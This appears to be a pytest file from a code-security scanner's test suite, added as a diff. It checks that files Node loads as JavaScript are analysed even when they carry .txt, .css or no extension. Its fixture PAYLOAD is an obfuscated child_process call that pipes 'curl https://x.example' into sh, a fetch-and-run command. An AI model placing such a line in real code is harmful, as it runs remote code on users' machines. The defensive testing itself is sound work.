@@ -1,0 +1,75 @@
+"""Files Node runs as JavaScript whatever their extension are analysed as JavaScript (a fail-open fix:
+`require("./notes.txt")` ran the code in notes.txt while the code gate, choosing files by extension, never read
+it). The premise is checked with real Node on a copy of the fixture (nothing scanned is ever run)."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from code_support import run
+
+PAYLOAD = 'const c = "child_" + "process"; require(c).exec("curl https://x.example | sh");\n'
+
+
+def subprocess_paths(files: dict[str, str]) -> list[str]:
+    result = run(files)
+    return sorted({f.path for f in result.findings if f.rule_id == "code/subprocess" and f.path})
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        ({"index.js": 'require("./notes.txt");', "notes.txt": PAYLOAD}, ["notes.txt"]),
+        ({"index.js": 'require("./data");', "data": PAYLOAD}, ["data"]),  # no extension at all
+        ({"index.js": 'require("./lib");', "lib/package.json": '{"main": "boot.dat"}', "lib/boot.dat": PAYLOAD},
+         ["lib/boot.dat"]),
+        ({"package.json": '{"main": "lib/index.md"}', "lib/index.md": PAYLOAD}, ["lib/index.md"]),
+        ({"package.json": '{"exports": {".": {"require": "./x.css"}}}', "x.css": PAYLOAD}, ["x.css"]),
+        ({"package.json": '{"bin": {"t": "bin/t"}}', "bin/t": "#!/usr/bin/env node\n" + PAYLOAD}, ["bin/t"]),
+        ({"package.json": '{"scripts": {"postinstall": "node scripts/setup.dat --quiet"}}',
+          "scripts/setup.dat": PAYLOAD}, ["scripts/setup.dat"]),
+        # through a bundled dependency: a bare name resolves in node_modules above the importer
+        ({"index.js": 'require("dep");', "node_modules/dep/package.json": '{"main": "main.txt"}',
+          "node_modules/dep/main.txt": PAYLOAD}, ["node_modules/dep/main.txt"]),
+        # a chain: each newly analysed file's own requires are followed
+        ({"index.js": 'require("./a.txt");', "a.txt": 'require("./b.txt");', "b.txt": PAYLOAD}, ["b.txt"]),
+    ],
+)  # fmt: skip
+def test_files_node_runs_as_javascript_are_analysed(files: dict[str, str], expected: list[str]) -> None:
+    assert subprocess_paths(files) == expected
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"index.js": "const x = 1;", "notes.txt": PAYLOAD},  # nothing loads it
+        {"index.mjs": 'import "./notes.txt";', "notes.txt": PAYLOAD},  # ESM refuses unknown extensions
+        {"index.js": 'require("./data.json");', "data.json": '{"a": 1}'},  # JSON is parsed, not run
+        {"package.json": '{"bin": {"t": "bin/t"}}', "bin/t": "#!/bin/sh\n" + PAYLOAD},  # a shell script
+        {"index.js": 'require("../outside.txt"); require("/etc/passwd"); require("fs");', "notes.txt": PAYLOAD},
+        {"index.js": "// require('./notes.txt')\nconst s = \"require('./notes.txt')\";", "notes.txt": PAYLOAD},
+    ],
+)
+def test_files_node_does_not_run_are_not_analysed(files: dict[str, str]) -> None:
+    assert subprocess_paths(files) == []
+
+
+def test_a_require_cycle_through_non_code_files_ends() -> None:
+    files = {"index.js": 'require("./a.txt");', "a.txt": 'require("./b.txt");', "b.txt": 'require("./a.txt");'}
+    assert run(files).facts.code is not None and run(files).facts.code.stats["loaded-as-javascript"] == 2
+
+
+def test_node_really_runs_a_required_txt_file(tmp_path: Path) -> None:
+    node = shutil.which("node")
+    if node is None:
+        pytest.skip("node not on PATH: the premise (require runs any extension as JavaScript) is SKIPPED")
+    marker = tmp_path / "marker"
+    (tmp_path / "index.js").write_text('require("./notes.txt");')
+    (tmp_path / "notes.txt").write_text(f"require('fs').writeFileSync({json.dumps(str(marker))}, 'ran');")
+    subprocess.run([node, "index.js"], cwd=tmp_path, check=True, timeout=60, capture_output=True)
+    assert marker.read_text() == "ran"
+    assert subprocess_paths({"index.js": 'require("./notes.txt");', "notes.txt": PAYLOAD}) == ["notes.txt"]
